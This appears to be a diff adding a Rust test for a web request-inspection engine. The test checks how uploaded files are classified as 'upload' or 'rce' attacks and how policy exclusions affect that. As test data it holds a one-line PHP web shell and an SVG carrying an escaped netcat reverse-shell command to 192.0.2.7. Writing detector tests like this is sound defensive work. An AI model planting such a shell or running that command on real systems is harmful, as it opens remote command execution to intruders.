@@ -144,3 +144,31 @@ fn exclusions_hold_for_every_part_of_a_request() {
     assert_eq!(run("note"), (Verdict::Pass, 0));
     assert_eq!(run("other"), (Verdict::Attack, 2));
 }
+
+#[test]
+fn one_instruction_is_one_attack_unless_its_class_is_excluded() {
+    let found = |policy: &str, name: &str, content: &str| {
+        let engine = Engine::new(Policy::from_toml(policy).expect("a policy"));
+        let mut transaction = engine.transaction();
+        transaction.request_line(b"POST", b"/files", Version::Http11);
+        transaction.request_header(b"Host", b"a.example");
+        transaction.request_header(b"Content-Type", b"multipart/form-data; boundary=q");
+        transaction.request_head_end();
+        let body = format!(
+            "--q\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\r\n{content}\r\n--q--\r\n"
+        );
+        transaction.request_body(body.as_bytes());
+        transaction.request_end();
+        let mut classes: Vec<&str> =
+            transaction.findings().iter().filter(|f| f.confidence >= 50).map(|f| f.class.name()).collect();
+        classes.dedup();
+        classes
+    };
+    let shell = "<?php system($_GET['run']); ?>";
+    assert_eq!(found("", "a.txt", shell), ["upload"]);
+    let excluded = "[[exclusions]]\nclasses = [\"upload\"]\npoint = \"*.f\"\nhost = \"a.example\"";
+    assert_eq!(found(excluded, "a.txt", shell), ["rce"]);
+    // Escapes are part of a document: what they hide is carried all the same.
+    let drawing = "<svg><image xlink:href=\"&#x7c;nc 192.0.2.7 4444 -e &#x2f;bin&#x2f;sh\"/></svg>";
+    assert_eq!(found("", "a.svg", drawing), ["upload"]);
+}
